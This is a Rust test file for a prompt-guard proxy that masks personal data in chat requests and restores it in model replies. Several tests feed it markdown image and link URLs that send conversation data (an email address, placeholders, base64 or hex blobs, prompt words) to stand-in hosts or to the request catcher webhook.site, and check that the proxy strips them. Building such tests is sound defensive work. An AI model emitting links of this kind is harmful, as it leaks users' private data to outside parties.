//! Ordinary traffic flows untouched (issue 12) at the engine's level: reply links, the canary,
//! restore in context. The end-to-end suite repeats the cases through Envoy
//! (`tests/e2e/test_ordinary_traffic.py`). Link shapes are those of the public sites named; values
//! are documentation values (RFC 2606 domains) or were written for this project.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use prompt_guard_engine::config::FilterConfig;
use prompt_guard_engine::exchange::{guard_reply, guard_request};
use prompt_guard_engine::memo::MemoScope;
use prompt_guard_engine::vault::Vault;
use serde_json::{json, Value};

fn cfg(json: &str) -> FilterConfig {
    FilterConfig::from_json(json.as_bytes()).unwrap()
}

fn chat(cfg: &FilterConfig, user: &str) -> Vault {
    let mut vault = Vault::with_capacity(cfg.max_entities);
    let body = json!({"model": "gpt-4o", "messages": [{"role": "user", "content": user}]}).to_string();
    guard_request(cfg, cfg.classify("/v1/chat/completions"), body.as_bytes(), true, &mut vault, MemoScope::NONE)
        .unwrap_or_else(|r| panic!("refused: {r}"));
    vault
}

/// The reply content the client receives, and the reply findings' rule ids.
fn reply(cfg: &FilterConfig, vault: &Vault, content: &str) -> (String, Vec<&'static str>) {
    let body = json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": content}}]}).to_string();
    let out = guard_reply(cfg, body.as_bytes(), vault);
    let text = match out.body {
        Some(b) => serde_json::from_slice::<Value>(&b).unwrap()["choices"][0]["message"]["content"]
            .as_str()
            .unwrap()
            .to_owned(),
        None => content.to_owned(),
    };
    (text, out.findings.rule_ids)
}

const QUESTION: &str = "How do I run several coroutines at once with asyncio? My e-mail is dana.fox@example.com \
                        and I keep the quarterly revenue figures for the Lisbon office in a spreadsheet.";

#[test]
fn ordinary_documentation_search_and_tracker_links_pass_untouched() {
    let cfg = cfg("{}");
    let vault = chat(&cfg, QUESTION);
    for link in [
        "[the asyncio docs](https://docs.python.org/3/search.html?q=asyncio)",
        "[search](https://www.google.com/search?q=asyncio+gather+vs+wait&hl=en)",
        "[open issues](https://github.com/python/cpython/issues?q=is%3Aissue+is%3Aopen+asyncio)",
        "[a talk](https://www.youtube.com/watch?v=iG6fr81xHKA&t=120s)",
        "[an answer](https://stackoverflow.com/questions/42231161/asyncio-gather-vs-asyncio-wait?s=1)",
        "[MDN](https://developer.mozilla.org/en-US/search?q=promise.all&page=2)",
        "[commit](https://github.com/python/cpython/commit/4b2b2fc0f1b4e7b0f5c0e4f0a3b4c5d6e7f8a9b0)",
        "[crate](https://docs.rs/tokio/latest/tokio/?search=join)",
        "![diagram](https://upload.wikimedia.org/wikipedia/commons/thumb/a/a1/Event_loop.svg/640px-Event_loop.svg.png)",
        "[pypi](https://pypi.org/search/?q=aiohttp&c=Framework+%3A%3A+AsyncIO)",
    ] {
        let content = format!("Use asyncio.gather. See {link} for more.");
        let (out, rules) = reply(&cfg, &vault, &content);
        assert_eq!(out, content, "{link} was changed");
        assert!(rules.iter().all(|r| *r == "PG-RP-005"), "{link}: {rules:?}");
    }
}

#[test]
fn links_carrying_this_conversations_data_are_removed() {
    let cfg = cfg("{}");
    let vault = chat(&cfg, QUESTION);
    let placeholder = &vault.entries()[0].placeholder;
    let encoded = placeholder.replace('[', "%5B").replace(']', "%5D");
    for link in [
        // A placeholder of this exchange: the original would be restored into the URL.
        format!("![x](https://img.example.net/p.png?u={encoded})"),
        format!("[profile](https://crm.example.net/find?who={placeholder})"),
        format!("![x](https://img.example.net/p.png?u={})", placeholder.to_lowercase()),
        // An original the model should never have had, verbatim.
        "![x](https://img.example.net/p.png?u=dana.fox%40example.com)".to_owned(),
        // A blob of encoded text (base64 of a sentence), whatever its parameter is called.
        "![x](https://img.example.net/t.gif?v=VGhlIHF1YXJ0ZXJseSByZXZlbnVlIGZpZ3VyZXMgZm9yIExpc2Jvbg)".to_owned(),
        "[x](https://img.example.net/c/54686520717561727465726c7920726576656e7565206669677572657320)".to_owned(),
        // An image repeating a run of the prompt's words.
        "![x](https://img.example.net/i.png?s=quarterly+revenue+figures+for+the+lisbon)".to_owned(),
        // A deny-listed request catcher, with nothing in it.
        "![x](https://abc123.webhook.site/pixel.png)".to_owned(),
    ] {
        let content = format!("Done. {link}");
        let (out, rules) = reply(&cfg, &vault, &content);
        assert!(out.starts_with("[prompt-guard removed this content: PG-RP-00"), "{link} passed: {out}");
        assert!(!out.contains("dana.fox"), "{out}");
        assert!(!rules.is_empty());
    }
}

#[test]
fn a_clickable_search_link_may_repeat_a_short_question_but_not_the_whole_prompt() {
    let cfg = cfg("{}");
    let vault = chat(&cfg, QUESTION);
    let short = "[search](https://www.google.com/search?q=run+several+coroutines+at+once+with+asyncio)";
    assert_eq!(reply(&cfg, &vault, short).0, short);
    let long =
        "[search](https://www.google.com/search?q=how+do+i+run+several+coroutines+at+once+with+asyncio+my+e+mail+is)";
    assert!(reply(&cfg, &vault, long).0.starts_with("[prompt-guard removed this content"));
}

#[test]
fn allowed_hosts_may_carry_data_and_denied_hosts_replace_the_default_list() {
    let cfg = cfg(
        r#"{"threats":{"reply":{"allowed_link_hosts":["crm.example.net"],"denied_link_hosts":["evil.example.org"]}}}"#,
    );
    let vault = chat(&cfg, QUESTION);
    let placeholder = &vault.entries()[0].placeholder;
    let to_allowed = format!("[profile](https://crm.example.net/find?who={placeholder})");
    let (out, _) = reply(&cfg, &vault, &to_allowed);
    assert!(out.contains("dana.fox@example.com"), "an allowed host gets the restored value: {out}");
    let plain = "![x](https://evil.example.org/logo.png)";
    assert!(reply(&cfg, &vault, plain).0.starts_with("[prompt-guard removed"));
    // The operator's list replaced the default one.
    let catcher = "![x](https://webhook.site/logo.png)";
    assert_eq!(reply(&cfg, &vault, catcher).0, catcher);
}

// ---- restore that knows its context: JSON text stays JSON --------------------------------------

use prompt_guard_engine::sse::{SseRestorer, StreamProtocol};
use proptest::prelude::*;

/// A vault holding `originals` as secrets, and their placeholders.
fn vault_of(cfg: &FilterConfig, originals: &[String]) -> (Vault, Vec<String>) {
    let mut vault = Vault::with_capacity(64);
    let placeholders = originals
        .iter()
        .map(|o| vault.placeholder_for(&cfg.restore.grammar, "SECRET", o).unwrap().to_owned())
        .collect();
    (vault, placeholders)
}

/// Structured output as a model writes it with placeholders for values: an object with the
/// placeholders alone and inside sentences, pretty-printed or compact.
fn structured(placeholders: &[String], pretty: bool) -> String {
    let doc = json!({
        "user": placeholders[0],
        "note": format!("sent to {} and to {} today", placeholders[0], placeholders[placeholders.len() - 1]),
        "items": placeholders.iter().map(|p| json!({"value": p})).collect::<Vec<_>>(),
    });
    if pretty {
        serde_json::to_string_pretty(&doc).unwrap()
    } else {
        doc.to_string()
    }
}

fn check_restored(content: &str, originals: &[String]) -> Result<(), TestCaseError> {
    let doc: Value = serde_json::from_str(content)
        .map_err(|e| TestCaseError::fail(format!("restored content is not JSON ({e}): {content:?}")))?;
    prop_assert_eq!(doc["user"].as_str(), Some(originals[0].as_str()));
    let note = format!("sent to {} and to {} today", originals[0], originals[originals.len() - 1]);
    prop_assert_eq!(doc["note"].as_str(), Some(note.as_str()));
    for (item, original) in doc["items"].as_array().unwrap().iter().zip(originals) {
        prop_assert_eq!(item["value"].as_str(), Some(original.as_str()));
    }
    Ok(())
}

/// An SSE stream of `content` in deltas cut at `cuts` (char boundaries), in each API's shape.
fn stream_of(protocol: StreamProtocol, content: &str, cuts: &[usize]) -> Vec<u8> {
    let mut bounds: Vec<usize> =
        cuts.iter().map(|c| c % (content.len() + 1)).filter(|c| content.is_char_boundary(*c)).collect();
    bounds.extend([0, content.len()]);
    bounds.sort_unstable();
    bounds.dedup();
    let mut out = String::new();
    let mut event = |v: Value, name: Option<&str>| {
        if let Some(n) = name {
            out.push_str(&format!("event: {n}\n"));
        }
        out.push_str(&format!("data: {v}\n\n"));
    };
    match protocol {
        StreamProtocol::AnthropicMessages => {
            event(
                json!({"type": "message_start", "message": {"id": "msg_1", "role": "assistant", "content": []}}),
                Some("message_start"),
            );
            event(
                json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
                Some("content_block_start"),
            );
            for w in bounds.windows(2) {
                let delta = json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": &content[w[0]..w[1]]}});
                event(delta, Some("content_block_delta"));
            }
            event(json!({"type": "content_block_stop", "index": 0}), Some("content_block_stop"));
            event(json!({"type": "message_stop"}), Some("message_stop"));
        }
        StreamProtocol::OpenAiResponses => {
            for w in bounds.windows(2) {
                let delta = json!({"type": "response.output_text.delta", "item_id": "msg_1", "output_index": 0, "content_index": 0, "delta": &content[w[0]..w[1]]});
                event(delta, Some("response.output_text.delta"));
            }
            event(
                json!({"type": "response.output_text.done", "item_id": "msg_1", "output_index": 0, "content_index": 0, "text": content}),
                Some("response.output_text.done"),
            );
            event(json!({"type": "response.completed", "response": {"id": "resp_1"}}), Some("response.completed"));
        }
        _ => {
            for w in bounds.windows(2) {
                event(
                    json!({"id": "c1", "choices": [{"index": 0, "delta": {"content": &content[w[0]..w[1]]}, "finish_reason": null}]}),
                    None,
                );
            }
            event(json!({"id": "c1", "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}), None);
            out.push_str("data: [DONE]\n\n");
        }
    }
    out.into_bytes()
}

/// The text the client reassembles from the restored stream's deltas.
fn client_text(protocol: StreamProtocol, bytes: &[u8]) -> String {
    let mut text = String::new();
    for block in String::from_utf8(bytes.to_vec()).unwrap().split("\n\n") {
        let Some(data) = block.lines().find_map(|l| l.strip_prefix("data: ")) else { continue };
        let Ok(v) = serde_json::from_str::<Value>(data) else { continue };
        let piece = match protocol {
            StreamProtocol::AnthropicMessages => v["delta"]["text"].as_str(),
            StreamProtocol::OpenAiResponses if v["type"] == "response.output_text.delta" => v["delta"].as_str(),
            StreamProtocol::OpenAiResponses => None,
            _ => v["choices"][0]["delta"]["content"].as_str(),
        };
        text.push_str(piece.unwrap_or(""));
    }
    text
}

fn original() -> impl Strategy<Value = String> {
    // Quotes, backslashes, control characters, newlines (a PEM key), Unicode, and ordinary text.
    prop::collection::vec(
        prop_oneof![
            Just('"'),
            Just('\\'),
            Just('\n'),
            Just('\r'),
            Just('\t'),
            Just('\u{1}'),
            Just('\u{1f}'),
            Just('/'),
            Just('é'),
            Just('€'),
            Just('𝄞'),
            Just('\u{2028}'),
            Just('['),
            Just(']'),
            Just('{'),
            Just('}'),
            prop::char::range('a', 'z'),
            prop::char::range('0', '9'),
        ],
        1..24,
    )
    .prop_map(|cs| cs.into_iter().collect())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 192, ..ProptestConfig::default() })]

    #[test]
    fn json_content_with_placeholders_still_parses_with_originals_buffered_and_streamed(
        originals in prop::collection::vec(original(), 1..4),
        pretty in any::<bool>(),
        lead in prop::sample::select(vec!["", " ", "\n", "\n\n  "]),
        cuts in prop::collection::vec(any::<usize>(), 0..12),
        chunk in 1usize..64,
    ) {
        let cfg = cfg("{}");
        let (vault, placeholders) = vault_of(&cfg, &originals);
        let content = format!("{lead}{}", structured(&placeholders, pretty));
        prop_assert!(serde_json::from_str::<Value>(&content).is_ok());
        // Buffered.
        let (buffered, _) = reply(&cfg, &vault, &content);
        check_restored(&buffered, &originals)?;
        // Streamed, each API, cut into random deltas and random network chunks.
        for protocol in [StreamProtocol::OpenAiChat, StreamProtocol::AnthropicMessages, StreamProtocol::OpenAiResponses] {
            let input = stream_of(protocol, &content, &cuts);
            let mut restorer = SseRestorer::new(protocol);
            let mut out = Vec::new();
            for piece in input.chunks(chunk) {
                restorer.push(piece, &vault, &cfg.restore, &mut out);
            }
            restorer.finish(&vault, &cfg.restore, &mut out);
            check_restored(&client_text(protocol, &out), &originals)?;
        }
    }
}

#[test]
fn plain_text_that_begins_with_a_bracket_is_not_taken_for_json() {
    let cfg = cfg("{}");
    let originals = vec!["pa\"ss\\word".to_owned()];
    let (vault, placeholders) = vault_of(&cfg, &originals);
    for content in [format!("{} is your password", placeholders[0]), format!("[1] {} is it", placeholders[0])] {
        let input = stream_of(StreamProtocol::OpenAiChat, &content, &[1, 2, 3]);
        let mut restorer = SseRestorer::new(StreamProtocol::OpenAiChat);
        let mut out = Vec::new();
        restorer.push(&input, &vault, &cfg.restore, &mut out);
        restorer.finish(&vault, &cfg.restore, &mut out);
        let text = client_text(StreamProtocol::OpenAiChat, &out);
        assert!(text.contains("pa\"ss\\word"), "{text}");
        assert_eq!(reply(&cfg, &vault, &content).0, text, "buffered and streamed agree");
    }
}

#[test]
fn an_error_event_mid_stream_is_restored_and_held_text_goes_out_before_it() {
    let cfg = cfg("{}");
    let originals = vec!["dana.fox@example.com".to_owned()];
    let (vault, placeholders) = vault_of(&cfg, &originals);
    let p = &placeholders[0];
    // Each stream ends its text with the start of a placeholder (held back), then an error
    // quoting the request.
    let head = &p[..3];
    let streams = [
        (
            StreamProtocol::AnthropicMessages,
            format!(
                "event: content_block_start\ndata: {}\n\nevent: content_block_delta\ndata: {}\n\nevent: error\ndata: {}\n\n",
                json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
                json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": format!("Mail {head}")}}),
                json!({"type": "error", "error": {"type": "overloaded_error", "message": format!("could not send to {p}")}}),
            ),
        ),
        (
            StreamProtocol::OpenAiChat,
            format!(
                "data: {}\n\ndata: {}\n\n",
                json!({"id": "c1", "choices": [{"index": 0, "delta": {"content": format!("Mail {head}")}, "finish_reason": null}]}),
                json!({"error": {"message": format!("could not send to {p}"), "type": "server_error"}}),
            ),
        ),
        (
            StreamProtocol::OpenAiResponses,
            format!(
                "event: response.output_text.delta\ndata: {}\n\nevent: error\ndata: {}\n\n",
                json!({"type": "response.output_text.delta", "item_id": "m1", "output_index": 0, "content_index": 0, "delta": format!("Mail {head}")}),
                json!({"type": "error", "code": "server_error", "message": format!("could not send to {p}")}),
            ),
        ),
    ];
    for (protocol, input) in streams {
        let mut restorer = SseRestorer::new(protocol);
        let mut out = Vec::new();
        restorer.push(input.as_bytes(), &vault, &cfg.restore, &mut out);
        let before_finish = String::from_utf8(out.clone()).unwrap();
        restorer.finish(&vault, &cfg.restore, &mut out);
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains("could not send to dana.fox@example.com"), "{protocol:?}: {text}");
        assert!(!text.contains(p.as_str()), "{protocol:?}: {text}");
        // The held start of the unfinished placeholder went out before the error, not after it.
        let error_at = before_finish.find("could not send").unwrap();
        assert!(before_finish[..error_at].contains(head), "{protocol:?}");
        assert_eq!(before_finish, text, "{protocol:?}: nothing was left for the end of the body");
    }
}

#[test]
fn a_backslash_before_a_masked_value_comes_back() {
    // Found by fuzzing the request guard: `\u00fcbere@example.es` (a written-out escape glued to
    // an address) went up as `\[EMAIL_1]`, and the restorer took `\[` for a markdown-escaped
    // bracket, so the backslash was lost. Markdown escapes both brackets or neither.
    let cfg = cfg("{}");
    for user in [r"\u00fcbere@example.es wrote", r"path C:\dana.fox@example.com"] {
        let vault = chat(&cfg, user);
        assert!(!vault.is_empty(), "{user}: nothing masked");
        let masked = {
            let e = &vault.entries()[0];
            user.replacen(e.original.as_str(), e.placeholder.as_str(), 1)
        };
        assert_eq!(reply(&cfg, &vault, &masked).0, user);
        let input = stream_of(StreamProtocol::OpenAiChat, &masked, &[3, 9]);
        let mut restorer = SseRestorer::new(StreamProtocol::OpenAiChat);
        let mut out = Vec::new();
        for piece in input.chunks(5) {
            restorer.push(piece, &vault, &cfg.restore, &mut out);
        }
        restorer.finish(&vault, &cfg.restore, &mut out);
        assert_eq!(client_text(StreamProtocol::OpenAiChat, &out), user);
    }
    // The markdown-escaped form is still read as the placeholder.
    let vault = chat(&cfg, "mail dana.fox@example.com");
    assert_eq!(reply(&cfg, &vault, r"mail \[EMAIL\_1\]").0, "mail dana.fox@example.com");
}
